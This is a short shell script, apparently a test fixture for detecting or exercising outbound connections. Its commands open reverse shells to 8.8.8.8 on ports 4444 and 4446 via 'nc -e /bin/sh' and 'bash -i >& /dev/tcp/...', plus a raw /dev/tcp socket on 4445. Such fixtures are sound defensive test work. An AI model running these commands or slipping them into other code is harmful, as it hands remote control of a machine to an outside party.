#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# peer: busybox nc -l -p 4444 </dev/null
# peer: busybox nc -l -p 4445 </dev/null
busybox nc 8.8.8.8 4444 -e /bin/sh
bash -c 'exec 5<>/dev/tcp/8.8.8.8/4445'
timeout 1 bash -c 'bash -i >& /dev/tcp/8.8.8.8/4446 0>&1'
